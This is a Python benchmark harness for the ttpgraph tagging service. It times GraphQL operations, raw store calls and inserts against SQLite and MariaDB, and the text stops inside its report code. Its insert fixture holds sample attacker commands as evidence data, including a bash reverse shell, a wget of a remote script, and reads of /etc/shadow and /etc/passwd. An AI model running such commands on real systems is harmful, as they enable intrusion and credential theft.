#!/usr/bin/env python3
"""The ttpgraph benchmark (run it through bench/run.sh; see BENCHMARKS.md).

Per dialect: build (or reuse) a deterministic 1M-tag fleet with `ttpgraph demo`, pick the
ids to query, start the release server and time it to /readyz, drive every operation
over loopback with wrk at fixed concurrency (checking every body), time the same store
methods without HTTP/GraphQL (the floor) right after each operation, measure inserts,
clean up what the benchmark wrote, and print/write one markdown report.

Standard library only.
"""

from __future__ import annotations

import argparse
import atexit
import datetime as dt
import functools
import hashlib
import http.client
import json
import os
import re
import resource
import shlex
import signal
import socket
import statistics
import subprocess
import sys
import threading
import time
from pathlib import Path

ROOT = Path(__file__).resolve().parent.parent
BENCH = ROOT / "bench"
DATA = BENCH / "data"
OUT = BENCH / "out"
TTPGRAPH = ROOT / "target" / "release" / "ttpgraph"
HELPER = ROOT / "target" / "release" / "examples" / "bench_floor"
LUA = BENCH / "wrk" / "graphql.lua"

# DECNET's figures from issue 5 (ms per call unless noted), SQLite / MariaDB.
DECNET = {
    "identity_median": {"sqlite": (1.9, 412.0), "mysql": (1001.0, 1.7)},
    "identity_max": {"sqlite": (13.7, None), "mysql": (1251.0, None)},
    "attacker": {"sqlite": (1.9, None), "mysql": (1.9, None)},
    "session": {"sqlite": (1.7, None), "mysql": (1.8, None)},
    "campaign": {"sqlite": (3.1, None), "mysql": (6.2, None)},
    "fleet": {"sqlite": (1664.0, None), "mysql": (926.0, None)},
    "inspector": {"sqlite": (39.0, None), "mysql": (105.0, None)},
}
DECNET_INSPECTOR_RANGE = {"sqlite": "39–166", "mysql": "105–570"}
DECNET_EXPORT_MS = {"sqlite": 6382.0, "mysql": 7927.0}
DECNET_INSERT_TAGS_S = {"sqlite": 1802.0, "mysql": 2326.0}

CHILDREN: list[subprocess.Popen] = []


def log(msg: str) -> None:
    print(msg, flush=True)


def show_cmd(cmd: list[str], env_extra: dict[str, str] | None = None) -> None:
    env = " ".join(f"{k}={shlex.quote(v)}" for k, v in (env_extra or {}).items())
    log(f"  $ {env + ' ' if env else ''}{shlex.join(str(c) for c in cmd)}")


def kill_children() -> None:
    for p in CHILDREN:
        if p.poll() is None:
            try:
                p.terminate()
                p.wait(timeout=10)
            except Exception:  # noqa: BLE001 - best effort on the way out
                p.kill()


def on_signal(signum, _frame):
    kill_children()
    sys.exit(128 + signum)


def run(cmd: list[str], *, env_extra=None, capture=True, check=True, quiet=False) -> subprocess.CompletedProcess:
    if not quiet:
        show_cmd(cmd, env_extra)
    env = dict(os.environ, **(env_extra or {}))
    p = subprocess.run([str(c) for c in cmd], env=env, text=True, capture_output=capture)
    if check and p.returncode != 0:
        sys.stderr.write(p.stdout or "")
        sys.stderr.write(p.stderr or "")
        raise SystemExit(f"command failed ({p.returncode}): {shlex.join(str(c) for c in cmd)}")
    return p


def helper(args: list[str], quiet=False) -> dict | list:
    p = run([HELPER, *args], quiet=quiet)
    return json.loads(p.stdout)


# ---------------------------------------------------------------------------------
# The fleet.


def demo_source_hash() -> str:
    h = hashlib.sha256()
    for f in sorted((ROOT / "src" / "demo").glob("*.rs")):
        h.update(f.name.encode())
        h.update(f.read_bytes())
    return h.hexdigest()[:16]


def fleet_params(a) -> dict:
    return {
        "seed": a.seed,
        "attackers": a.attackers,
        "tags": a.tags,
        "batch": a.demo_batch,
        "demo_source": demo_source_hash(),
    }


def stamp_path(dialect: str) -> Path:
    return DATA / f"fleet-{dialect}.stamp.json"


def database_url(dialect: str, a) -> str:
    if dialect == "sqlite":
        return f"sqlite://{DATA / 'fleet-sqlite.db'}"
    return a.mysql_url


def ensure_fleet(dialect: str, a) -> dict:
    url = database_url(dialect, a)
    want = fleet_params(a)
    sp = stamp_path(dialect)
    stamp = json.loads(sp.read_text()) if sp.exists() else None
    if stamp and not a.rebuild and stamp.get("params") == want and stamp.get("database_url") == url:
        log(f"fleet: checking the existing {dialect} fleet against {sp.relative_to(ROOT)}")
        c = helper(["cleanup", "--database-url", url])
        if c["deleted"]:
            log(f"  removed {c['deleted']} tags left by an interrupted run ({c['seconds']:.1f} s)")
        n = helper(["count", "--database-url", url])
        if n["tags"] == stamp["tag_rows"]:
            log(f"fleet: reusing it ({n['tags']:,} tags; built {stamp['built_at']} in {stamp['demo_seconds']:.1f} s)")
            stamp["reused"] = True
            return stamp
        log(f"fleet: {n['tags']:,} tags in the database, the stamp says {stamp['tag_rows']:,}: rebuilding")
    elif stamp and not a.rebuild:
        log(f"fleet: the stamp {sp.relative_to(ROOT)} was built with other parameters: rebuilding")
    sp.unlink(missing_ok=True)
    if dialect == "sqlite":
        for suffix in ("", "-wal", "-shm"):
            (DATA / f"fleet-sqlite.db{suffix}").unlink(missing_ok=True)
    else:
        helper(["create-db", "--database-url", url, "--fresh"])
    cmd = [
        TTPGRAPH, "demo", "--database-url", url, "--seed", str(a.seed), "--attackers", str(a.attackers),
        "--tags", str(a.tags), "--batch", str(a.demo_batch), "--quiet",
    ]
    env = {"TTPGRAPH_LOG": "warn,sqlx=error"}
    log(f"fleet: building the {dialect} fleet (this takes minutes; MariaDB's is the slow one)")
    t0 = time.perf_counter()
    p = run(cmd, env_extra=env)
    seconds = time.perf_counter() - t0
    line = next((ln for ln in p.stdout.splitlines() if ln.startswith("demo fleet:")), p.stdout.strip())
    log(f"  {line}")
    log(f"  demo took {seconds:.1f} s")
    m = re.search(r"(\d+) sessions", line)
    n = helper(["count", "--database-url", url])
    stamp = {
        "dialect": dialect,
        "database_url": url,
        "params": want,
        "built_at": dt.datetime.now(dt.timezone.utc).isoformat(timespec="seconds"),
        "demo_seconds": seconds,
        "demo_summary": line,
        "demo_sessions": int(m.group(1)) if m else None,
        "tag_rows": n["tags"],
    }
    sp.write_text(json.dumps(stamp, indent=2) + "\n")
    stamp["reused"] = False
    return stamp


def ensure_ids(dialect: str, url: str, stamp: dict, rotate: int) -> tuple[dict, Path]:
    path = DATA / f"ids-{dialect}.json"
    key = {"built_at": stamp["built_at"], "rotate": rotate, "version": 2}
    if path.exists():
        ids = json.loads(path.read_text())
        if ids.get("_key") == key:
            log(f"ids: reusing {path.relative_to(ROOT)}")
            return ids, path
    log("ids: picking them with SQL against the fleet")
    ids = helper(["pick", "--database-url", url, "--rotate", str(rotate)])
    ids["_key"] = key
    path.write_text(json.dumps(ids, indent=2) + "\n")
    return ids, path


# ---------------------------------------------------------------------------------
# The server.


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def readyz(port: int) -> bool:
    try:
        with socket.create_connection(("127.0.0.1", port), timeout=2) as s:
            s.sendall(b"GET /readyz HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n\r\n")
            head = s.recv(64)
            return head.startswith(b"HTTP/1.1 200")
    except OSError:
        return False


class Server:
    def __init__(self, url: str, port: int, log_path: Path, a):
        self.url, self.port, self.log_path = url, port, log_path
        self.cmd = [
            TTPGRAPH, "serve", "--database-url", url, "--listen", f"127.0.0.1:{port}",
            "--max-body-bytes", str(a.max_body_bytes),
        ]
        self.proc: subprocess.Popen | None = None

    def start(self, timeout: float, quiet=False) -> float:
        """Starts the server; returns seconds from spawn to the first 200 on /readyz."""
        env = {k: v for k, v in os.environ.items()
               if k not in ("TTPGRAPH_JWT_SECRET", "DECNET_JWT_SECRET", "TTPGRAPH_DATABASE_URL",
                            "DATABASE_URL", "TTPGRAPH_LISTEN")}
        if not quiet:
            show_cmd(self.cmd)
        logf = open(self.log_path, "ab")
        t0 = time.perf_counter()
        self.proc = subprocess.Popen([str(c) for c in self.cmd], env=env, stdout=logf, stderr=logf)
        CHILDREN.append(self.proc)
        while True:
            if readyz(self.port):
                return time.perf_counter() - t0
            if self.proc.poll() is not None:
                self.fail(f"the server exited with {self.proc.returncode} before it was ready")
            if time.perf_counter() - t0 > timeout:
                self.fail(f"the server was not ready after {timeout:.0f} s")
            time.sleep(0.001)

    def fail(self, why: str):
        tail = self.log_path.read_text(errors="replace").splitlines()[-40:]
        sys.stderr.write("\n".join(line[:400] for line in tail) + "\n")
        raise SystemExit(f"FAILED: {why} ({self.log_path})")

    def stop(self):
        if self.proc and self.proc.poll() is None:
            self.proc.send_signal(signal.SIGTERM)
            try:
                self.proc.wait(timeout=30)
            except subprocess.TimeoutExpired:
                self.proc.kill()
                self.proc.wait()

    def status(self) -> dict:
        out = {}
        try:
            for line in Path(f"/proc/{self.proc.pid}/status").read_text().splitlines():
                k, _, v = line.partition(":")
                if k in ("VmRSS", "VmHWM", "RssAnon", "RssFile"):
                    out[k] = int(v.split()[0]) / 1024.0  # MiB
        except OSError:
            pass
        return out

    def metrics(self) -> str:
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=30)
        c.request("GET", "/metrics")
        body = c.getresponse().read().decode()
        c.close()
        return body

    def post(self, body: str) -> tuple[int, bytes]:
        c = http.client.HTTPConnection("127.0.0.1", self.port, timeout=120)
        c.request("POST", "/graphql", body=body.encode(), headers={"content-type": "application/json"})
        r = c.getresponse()
        data = r.read()
        c.close()
        return r.status, data


def sql_statements(metrics: str) -> int:
    m = re.search(r"^ttpgraph_sql_statements_total (\d+)", metrics, re.M)
    if not m:
        raise SystemExit("FAILED: /metrics has no ttpgraph_sql_statements_total")
    return int(m.group(1))


def graphql_requests(metrics: str, operation: str) -> int:
    total = 0
    for m in re.finditer(r'^ttpgraph_graphql_requests_total\{([^}]*)\} (\d+)', metrics, re.M):
        if f'operation="{operation}"' in m.group(1):
            total += int(m.group(2))
    return total


# ---------------------------------------------------------------------------------
# CPU and memory while an operation runs.


def cpu_seconds(pid: int) -> float:
    try:
        fields = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()
        return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
    except (OSError, IndexError):
        return float("nan")


def machine_ticks() -> tuple[int, int]:
    f = [int(x) for x in Path("/proc/stat").read_text().splitlines()[0].split()[1:]]
    idle = f[3] + f[4]
    return sum(f), idle


def find_pid(names: tuple[str, ...]) -> int | None:
    for d in Path("/proc").iterdir():
        if d.name.isdigit():
            try:
                if (d / "comm").read_text().strip() in names:
                    return int(d.name)
            except OSError:
                continue
    return None


class Probe:
    """Samples the server's RSS every 100 ms and CPU use of the server, the database
    server and the whole machine over one measured window."""

    def __init__(self, server: Server, db_pid: int | None):
        self.server, self.db_pid = server, db_pid
        self.rss_max = 0.0
        self.anon_max = 0.0
        self._stop = threading.Event()

    def __enter__(self):
        self.t0 = time.perf_counter()
        self.srv0 = cpu_seconds(self.server.proc.pid)
        self.db0 = cpu_seconds(self.db_pid) if self.db_pid else float("nan")
        self.m0 = machine_ticks()
        self.ch0 = resource.getrusage(resource.RUSAGE_CHILDREN)
        self.thread = threading.Thread(target=self._sample, daemon=True)
        self.thread.start()
        return self

    def _sample(self):
        while not self._stop.is_set():
            st = self.server.status()
            self.rss_max = max(self.rss_max, st.get("VmRSS", 0.0))
            self.anon_max = max(self.anon_max, st.get("RssAnon", 0.0))
            self._stop.wait(0.1)

    def __exit__(self, *exc):
        self._stop.set()
        self.thread.join()
        wall = time.perf_counter() - self.t0
        ch = resource.getrusage(resource.RUSAGE_CHILDREN)
        total, idle = machine_ticks()
        dt_total = total - self.m0[0]
        self.result = {
            "wall_s": wall,
            "server_cores": (cpu_seconds(self.server.proc.pid) - self.srv0) / wall,
            "db_cores": (cpu_seconds(self.db_pid) - self.db0) / wall if self.db_pid else None,
            "children_cores": ((ch.ru_utime + ch.ru_stime) - (self.ch0.ru_utime + self.ch0.ru_stime)) / wall,
            "machine_busy": 1.0 - (idle - self.m0[1]) / dt_total if dt_total else float("nan"),
            "rss_max_mib": self.rss_max,
            "anon_max_mib": self.anon_max,
        }
        return False


# ---------------------------------------------------------------------------------
# Operations.

GRAPHQL = BENCH / "graphql"


@functools.lru_cache(maxsize=None)
def document(name: str) -> str:
    """The operation `name` from bench/graphql/<name>.graphql, on one line: comment lines
    dropped and white space folded, so the bodies sent are byte for byte those of earlier
    runs (the figures stay comparable) and the files can be laid out for reading."""
    lines = (GRAPHQL / f"{name}.graphql").read_text().splitlines()
    kept = [ln for ln in lines if not ln.lstrip().startswith("#")]
    text = " ".join(" ".join(kept).split())
    if not re.match(rf"(?:query|mutation)\s+{name}\b", text):
        raise SystemExit(f"FAILED: {GRAPHQL / name}.graphql does not define the operation {name}")
    return text


def body(name: str, variables: dict | None = None) -> str:
    # operationName labels the server's request metrics, which count the requests served.
    b = {"query": document(name), "operationName": name}
    if variables is not None:
        b["variables"] = variables
    return json.dumps(b, separators=(",", ":"))


def insert_template(batch: int) -> str:
    kinds = [
        ("TA0006", "T1003", "T1003.008", "R0014", 2, 0.95, "sudo cat /etc/shadow"),
        ("TA0007", "T1083", None, "R0013", 1, 0.85, "cat /etc/passwd"),
        ("TA0004", "T1548", "T1548.001", "R0015", 1, 0.95, "find / -perm -u=s -type f"),
        ("TA0011", "T1105", None, "R0012", 1, 0.85, "wget http://x.example/p.sh -O /tmp/p.sh"),
        ("TA0002", "T1059", "T1059.004", "R0010", 1, 0.9, "bash -i >& /dev/tcp/10.0.0.5/4444 0>&1"),
    ]
    tags = []
    for i in range(batch):
        tactic, tech, sub, rule, ver, conf, cmd = kinds[i % len(kinds)]
        tags.append({
            "sourceKind": "command",
            "sourceId": f"bench-@@P@@#{i}",
            "attackerUuid": "be0c4000-0000-4000-8000-00000000be0c",
            "deckyId": "omega-decky",
            "tactic": tactic,
            "techniqueId": tech,
            "subTechniqueId": sub,
            "confidence": conf,
            "ruleId": rule,
            "ruleVersion": ver,
            "evidence": {"command_text": cmd, "user": "root", "service": "ssh"},
            "createdAt": "2026-11-01T12:00:00.000000Z",
        })
    return body("InsertTags", {"tags": tags})


def operations(ids: dict, a) -> list[dict]:
    """Every HTTP operation: name, label, bodies, the substring every good body has, and
    the floor operation measured right after it."""
    def per_id(q, key, extra=None):
        return [body(q, {"id": i, **(extra or {})}) for i in ids[key]["ids"]]

    def scope(key):
        t = ids[key]["tags"]
        if t["min"] == t["max"]:
            return f"{t['max']:,} tags"
        return f"{len(ids[key]['ids'])} ids, {t['min']:,}–{t['max']:,} tags"

    insp = ids["inspector"]
    cursors = ids["attackers_page"]["after"]
    ops = [
        dict(name="identity_median", label="identity `techniques`, median identity",
             scope=scope("identity_median") + f" (median {ids['identity_median']['true_median_tags']})",
             bodies=per_id("IdentityTechniques", "identity_median"), expect='"techniques":[{', floor="identity_median",
             opname="IdentityTechniques"),
        dict(name="identity_max", label="identity `techniques`, most-tagged identity",
             scope=scope("identity_max"), bodies=per_id("IdentityTechniques", "identity_max"),
             expect='"techniques":[{', floor="identity_max", opname="IdentityTechniques"),
        dict(name="attacker", label="attacker `techniques` (busiest attackers)", scope=scope("attacker"),
             bodies=per_id("AttackerTechniques", "attacker"), expect='"techniques":[{', floor="attacker",
             opname="AttackerTechniques"),
        dict(name="session", label="session `techniques` (busiest sessions)", scope=scope("session"),
             bodies=per_id("SessionTechniques", "session"), expect='"techniques":[{', floor="session",
             opname="SessionTechniques"),
        dict(name="campaign", label="campaign `techniques`, largest campaign",
             scope=scope("campaign") + f", {ids['campaign']['identities']} identities",
             bodies=per_id("CampaignTechniques", "campaign"), expect='"techniques":[{', floor="campaign",
             opname="CampaignTechniques"),
        dict(name="fleet", label="`fleetTechniques`", scope=f"{ids['fleet']['tags']:,} tags",
             bodies=[body("FleetTechniques")], expect='"techniqueId"', floor="fleet", opname="FleetTechniques"),
        dict(name="inspector", label="inspector, identity scope, `limit: 200`",
             scope=f"most-tagged identity, {insp['technique_id']} ({insp['technique_tags']:,} tags)",
             bodies=[body("Inspect", {"id": insp["ids"][0], "technique": insp["technique_id"]})],
             expect='"uuid"', floor="inspector", opname="Inspect"),
        dict(name="attackers_page", label="page of 100 attackers + `techniques` + `identity { techniques }`",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 100, "after": c}) for c in cursors],
             expect='"nodes":[{', floor="attackers_page", opname="AttackersPage"),
        dict(name="attackers_page_1", label="the same page with 1 (clustered) attacker, for its statement count",
             scope=f"{len(cursors)} pages", bodies=[body("AttackersPage", {"first": 1, "after": c}) for c in ids["attackers_page"]["after_one"]],
             expect='"nodes":[{', floor=None, opname="AttackersPage"),
        dict(name="typename", label="`{ __typename }` (framework floor)", scope="no SQL",
             bodies=[body("Typename")], expect='"__typename":"Query"', floor=None, opname="Typename"),
    ]
    if a.ops:
        wanted = set(a.ops.split(","))
        ops = [o for o in ops if o["name"] in wanted]
    return ops


WRK_RUNS = [0]


def run_wrk(server: Server, env: dict, seconds: float, a, quiet=False) -> dict:
    WRK_RUNS[0] += 1
    env = dict(env, BENCH_NONCE=f"{env.get('BENCH_NONCE', '0')}-{WRK_RUNS[0]}")
    threads = max(1, min(a.wrk_threads, a.concurrency))
    cmd = ["wrk", f"-t{threads}", f"-c{a.concurrency}", f"-d{seconds:g}s", "--timeout", "60s",
           "-s", str(LUA), f"http://127.0.0.1:{server.port}/graphql"]
    p = run(cmd, env_extra=env, quiet=quiet)
    line = next((ln for ln in p.stdout.splitlines() if ln.startswith("BENCH_JSON ")), None)
    if not line:
        sys.stderr.write(p.stdout + p.stderr)
        raise SystemExit("FAILED: wrk printed no BENCH_JSON line")
    r = json.loads(line[len("BENCH_JSON "):])
    r["errors"] = (r["gql_errors"] + r["no_data"] + r["bad_status"] + r["unexpected"]
                   + r["socket_errors"] + r["timeouts"])
    r["rps"] = r["requests"] / (r["duration_us"] / 1e6)
    if r["requests"] == 0:
        r["p50_us"] = r["p90_us"] = r["p99_us"] = float("nan")
    return r


def sanity(server: Server, op: dict, samples: list[str]) -> dict:
    """Requests one at a time, nothing else running: every body is good, and the
    statements they cost (the SQL counter of /metrics before and after, divided by the
    requests made)."""
    before = sql_statements(server.metrics())
    sizes, lat = [], []
    started = time.perf_counter()
    for sample in samples:
        if lat and time.perf_counter() - started > 5:
            break  # slow operations: a few requests tell enough
        t0 = time.perf_counter()
        status, data = server.post(sample)
        lat.append(time.perf_counter() - t0)
        text = data.decode(errors="replace")
        if status != 200 or '"errors"' in text or '"data"' not in text or (op["expect"] not in text):
            raise SystemExit(f"FAILED: {op['name']}: the sanity request failed (HTTP {status}): {text[:600]}")
        sizes.append(len(data))
    after = sql_statements(server.metrics())
    return {"statements": (after - before) / len(lat), "requests": len(lat),
            "bytes": int(statistics.median(sizes)), "latency_s": statistics.median(lat)}


def drain(server: Server, db_pid: int | None, settle: float) -> str:
    """Waits until the server (and the database server) are idle: requests that wrk cut
    off at its deadline keep running (a statement outlives its dropped future and holds
    a pooled connection), and must not eat into the next window. Idle = the SQL counter
    did not move and the server and DB processes used under 5 % of a core for `settle`
    seconds. Gives up after 180 s (the shared MariaDB may be busy with other work)."""
    last = server.metrics()
    deadline = time.perf_counter() + 180
    pids = [server.proc.pid] + ([db_pid] if db_pid else [])
    while time.perf_counter() < deadline:
        c0 = sum(cpu_seconds(p) for p in pids)
        time.sleep(settle)
        used = (sum(cpu_seconds(p) for p in pids) - c0) / settle
        now = server.metrics()
        if sql_statements(now) == sql_statements(last) and used < 0.05:
            return now
        last = now
    log("  warning: the server or the database did not go idle within 180 s")
    return last


def http_op(server: Server, op: dict, out_dir: Path, db_pid, a, nonce: str) -> dict:
    env = {"BENCH_EXPECT": op["expect"], "BENCH_NONCE": nonce}
    if op.get("template"):
        tpl = out_dir / f"{op['name']}.template.json"
        tpl.write_text(op["template"])
        env["BENCH_INSERT_TEMPLATE"] = str(tpl)
        samples = [op["template"].replace("@@P@@", f"{nonce}-sanity")]
    else:
        f = out_dir / f"{op['name']}.bodies.jsonl"
        f.write_text("\n".join(op["bodies"]) + "\n")
        env["BENCH_BODIES"] = str(f)
        samples = op["bodies"][: a.probe_requests]
    probe = sanity(server, op, samples)
    duration, warmup = op_window(probe["latency_s"], a)
    if duration != a.duration:
        log(f"  one request alone takes {probe['latency_s'] * 1000:.0f} ms: measuring for {duration} s, "
            f"warm-up {warmup} s")
    settle = 0.5
    m0 = drain(server, db_pid, settle)
    if warmup > 0:
        run_wrk(server, env, warmup, a, quiet=True)
        m0 = drain(server, db_pid, settle)
    with Probe(server, db_pid) as pr:
        r = run_wrk(server, env, duration, a)
    m1 = drain(server, db_pid, settle)
    served = graphql_requests(m1, op["opname"]) - graphql_requests(m0, op["opname"])
    stmts = sql_statements(m1) - sql_statements(m0)
    # The table's figure is the exact one from requests made one at a time; the figure
    # under load (statements / requests the server counted) is a cross-check: a request
    # cut off at wrk's deadline may have sent statements without being counted.
    r["sql_per_request"] = probe["statements"]
    r["sql_per_request_load"] = stmts / served if served else float("nan")
    r["served"] = served
    r["probe_requests"] = probe["requests"]
    r["response_bytes"] = probe["bytes"]
    r["window_s"], r["warmup_s"] = duration, warmup
    r["single_ms"] = probe["latency_s"] * 1000
    r.update(pr.result)
    fail = f"  first failure: {r['first_failure']}" if r["errors"] else ""
    log(f"  → {r['rps']:.1f} req/s, p50 {r['p50_us'] / 1000:.2f} ms, p99 {r['p99_us'] / 1000:.2f} ms, "
        f"errors {r['errors']}, SQL/request {r['sql_per_request']:.2f} ({r['sql_per_request_load']:.2f} under load), server {r['server_cores']:.2f} cores, "
        f"wrk {r['children_cores']:.2f} cores, RSS max {r['rss_max_mib']:.1f} MiB "
        f"(anonymous {r['anon_max_mib']:.1f} MiB){fail}")
    return r


def op_window(single_s: float, a) -> tuple[int, int]:
    """Measured and warm-up seconds for an operation whose single request takes
    `single_s`. With `concurrency` callers on this machine's cores a request takes about
    single × concurrency / cores; the window is stretched (up to --max-duration) so that
    every caller completes a few requests, and a warm-up that could not complete one is
    skipped (it would only leave requests running into the measured window)."""
    loaded = single_s * a.concurrency / max(1, os.cpu_count() or 1)
    duration = a.duration
    if 4 * loaded > a.duration:
        duration = max(a.duration, min(a.max_duration, int(4 * loaded + 0.999)))
    warmup = a.warmup if loaded <= a.warmup else 0
    return duration, warmup


def floor_op(name: str, url: str, ids_path: Path, a, window: tuple[int, int]) -> dict:
    r = helper(["floor", "--database-url", url, "--ids", str(ids_path), "--ops", name,
                "--concurrency", str(a.concurrency), "--duration", str(window[0]),
                "--warmup", str(window[1])])[0]
    log(f"  → floor: {r['rps']:.1f} calls/s, p50 {r['p50_ms']:.2f} ms, p99 {r['p99_ms']:.2f} ms, "
        f"errors {r['errors']}")
    if r["errors"]:
        log(f"    first error: {r['first_error']}")
    return r


# ---------------------------------------------------------------------------------
# Report.


def ms(x) -> str:
    if x is None or x != x:
        return "–"
    if x >= 100:
        return f"{x:,.0f} ms"
    if x >= 10:
        return f"{x:.1f} ms"
    return f"{x:.2f} ms"


def num(x, digits=1) -> str:
    if x is None or x != x:
        return "–"
    return f"{x:,.{digits}f}"


def mark(ok) -> str:
    return "–" if ok is None else ("✅" if ok else "❌")


def report(dialect: str, ctx: dict, a) -> str:
    ops, floors, ids, stamp = ctx["ops"], ctx["floors"], ctx["ids"], ctx["stamp"]
    L = []
    name = {"sqlite": "SQLite", "mysql": "MariaDB"}[dialect]
    L.append(f"## {name} — {ctx['when']}")
    L.append("")
    L.append(f"Fleet: {stamp['demo_summary']}  ")
    L.append(f"Stored tag rows: {stamp['tag_rows']:,}; sessions with tags: {ids['fleet']['sessions_with_tags']:,}; "
             f"`demo` took {stamp['demo_seconds']:.1f} s (built {stamp['built_at']}"
             f"{', reused' if stamp['reused'] else ''}).  ")
    L.append(f"Machine: {os.cpu_count()} cores; load average at start {ctx['loadavg']}; "
             f"concurrency {a.concurrency} (wrk -t{min(a.wrk_threads, a.concurrency)} -c{a.concurrency}), "
             f"{a.warmup:g} s warm-up + {a.duration:g} s per operation (stretched up to {a.max_duration} s for slow "
             f"operations: see *window* below); git {ctx['git']}.")
    L.append("")
    L.append("| operation | req/s | p50 | p99 | errors | SQL/request | raw-SQL p50 | ratio |")
    L.append("| --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: |")
    for o in ops:
        r = o["result"]
        f = floors.get(o["name"])
        ratio = (r["p50_us"] / 1000) / f["p50_ms"] if f and f["p50_ms"] else None
        ratio_text = f"{num(ratio, 2)}×" if ratio else "–"
        if ratio and r["errors"]:
            ratio_text = "– (errors)"  # failed requests end early: their latency says nothing
        label = o["label"]
        if o["name"] == "insert_tags":
            label += f" — **{r['rps'] * a.insert_batch:,.0f} tags/s**"
        L.append(f"| {label} | {num(r['rps'])} | {ms(r['p50_us'] / 1000)} | {ms(r['p99_us'] / 1000)} | "
                 f"{r['errors']} | {num(r['sql_per_request'], 2)} | {ms(f['p50_ms']) if f else '–'} | "
                 f"{ratio_text} |")
    L.append("")
    L.append("Store inserts (`Store::insert_tags`, fresh tags, no HTTP/GraphQL):")
    L.append("")
    L.append("| batch | writers | tags/s | p50 per call | p99 per call | errors |")
    L.append("| ---: | ---: | ---: | ---: | ---: | ---: |")
    for s in ctx["store_inserts"]:
        L.append(f"| {s['batch']:,} | {s['concurrency']} | {s['tags_per_s']:,.0f} | {ms(s['p50_ms'])} | "
                 f"{ms(s['p99_ms'])} | {s['errors']} |")
    L.append("")
    rt = ctx["ready"]
    L.append(f"Ready time (spawn → first 200 on `/readyz`, {len(rt)} starts on the existing fleet): "
             f"median **{statistics.median(rt) * 1000:.0f} ms** (min {min(rt) * 1000:.0f}, max {max(rt) * 1000:.0f}).  ")
    L.append(f"Server RSS: **{ctx['hwm']:.1f} MiB peak (VmHWM)** over the whole run; {ctx['rss_idle']:.1f} MiB "
             f"idle after start; {ctx['rss_reads']:.1f} MiB max during the read operations, "
             f"{ctx['rss_insert']:.1f} MiB during insertTags. Of the RSS, anonymous memory (heap, caches) peaked "
             f"at {ctx['anon_max']:.1f} MiB; the rest is file-backed (the binary; SQLite's "
             f"`mmap_size` is 0); at the end: {ctx['end_status']}.  ")
    if "export" in floors:
        e = floors["export"]
        L.append(f"Export rollup (store only, one caller — there is no GraphQL field): p50 {ms(e['p50_ms'])} "
                 f"(DECNET {DECNET_EXPORT_MS[dialect]:,.0f} ms).  ")
    L.append(f"Cleanup of the benchmark's {ctx['cleanup']['deleted']:,} tags: {ctx['cleanup']['seconds']:.1f} s.")
    L.append("")
    L.append("Where the time goes (CPU in cores, averaged over the measured window; the machine is "
             "shared, so *machine busy* includes other tenants):")
    L.append("")
    L.append("| operation | scope | window | 1 request alone | server CPU | wrk CPU | DB server CPU | machine busy | RSS max (anon) | "
             "SQL/request under load | raw calls/s | raw p99 | body |")
    L.append("| --- | --- | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: | ---: |")
    for o in ops:
        r = o["result"]
        f = floors.get(o["name"])
        db = "in-process" if dialect == "sqlite" else num(r["db_cores"], 2)
        L.append(f"| {o['name']} | {o['scope']} | {r['warmup_s']} + {r['window_s']} s | {ms(r['single_ms'])} | "
                 f"{num(r['server_cores'], 2)} | {num(r['children_cores'], 2)} | "
                 f"{db} | {num(r['machine_busy'] * 100, 0)} % | {num(r['rss_max_mib'])} ({num(r['anon_max_mib'])}) MiB | "
                 f"{num(r['sql_per_request_load'], 2)} | {num(f['rps']) if f else '–'} | "
                 f"{ms(f['p99_ms']) if f else '–'} | {r['response_bytes']:,} B |")
    L.append("")
    L.append(targets(dialect, ctx, a))
    return "\n".join(L) + "\n"


def targets(dialect: str, ctx: dict, a) -> str:
    by = {o["name"]: o["result"] for o in ctx["ops"]}
    floors = ctx["floors"]
    L = ["Against DECNET and the 10× targets (DECNET's throughput is its figure where the issue gives one, "
         "else 1/latency of one caller):", "",
         "| operation | DECNET | ttpgraph p50 / p99 (16 callers) | 1 request alone | ttpgraph req/s | ≥ 10× throughput | lower latency (p50) | other target |",
         "| --- | ---: | ---: | ---: | ---: | :---: | :---: | --- |"]
    for k, (lat, tput) in ((k, v[dialect]) for k, v in DECNET.items()):
        r = by.get(k)
        if not r:
            continue
        base = tput if tput else 1000.0 / lat
        p50, p99 = r["p50_us"] / 1000, r["p99_us"] / 1000
        dec = f"{DECNET_INSPECTOR_RANGE[dialect]} ms" if k == "inspector" else ms(lat)
        if tput:
            dec += f", {tput:g} calls/s"
        other = []
        if k.startswith("identity"):
            other.append(f"p99 ≤ 10 ms {mark(p99 <= 10)}")
        if k in ("identity_max", "campaign", "fleet", "inspector") and k in floors:
            ratio = p50 / floors[k]["p50_ms"]
            other.append(f"≤ 1.5× raw SQL ({ratio:.2f}×) {mark(ratio <= 1.5 if not r['errors'] else None)}")
        if r["errors"]:
            other.append(f"{r['errors']} errors ❌")
        L.append(f"| {k} | {dec} | {ms(p50)} / {ms(p99)} | {ms(r['single_ms'])} | {num(r['rps'])} | "
                 f"{mark(r['rps'] >= 10 * base)} (needs {10 * base:,.1f}) | {mark(p50 < lat)} | {'; '.join(other)} |")
    if "attackers_page" in by:
        r = by["attackers_page"]
        one = by.get("attackers_page_1")
        same = one is not None and r["sql_per_request"] == one["sql_per_request"]
        L.append(f"| 100-attacker page | – | {ms(r['p50_us'] / 1000)} / {ms(r['p99_us'] / 1000)} | {ms(r['single_ms'])} | "
                 f"{num(r['rps'])} | – | – | "
                 f"p50 ≤ 30 ms {mark(r['p50_us'] / 1000 <= 30)}; statements {r['sql_per_request']:g} vs "
                 f"{format(one['sql_per_request'], 'g') if one else '?'} for 1 attacker {mark(same if one else None)} |")
    if "insert_tags" in by:
        r = by["insert_tags"]
        tags = r["rps"] * a.insert_batch
        L.append(f"| insertTags, batches of {a.insert_batch} | {DECNET_INSERT_TAGS_S[dialect]:,.0f} tags/s | "
                 f"{ms(r['p50_us'] / 1000)} / {ms(r['p99_us'] / 1000)} | {ms(r['single_ms'])} | {tags:,.0f} tags/s | "
                 f"{mark(tags >= 10 * DECNET_INSERT_TAGS_S[dialect])} | – | ≥ 20,000 tags/s {mark(tags >= 20000)} |")
    for s in ctx["store_inserts"]:
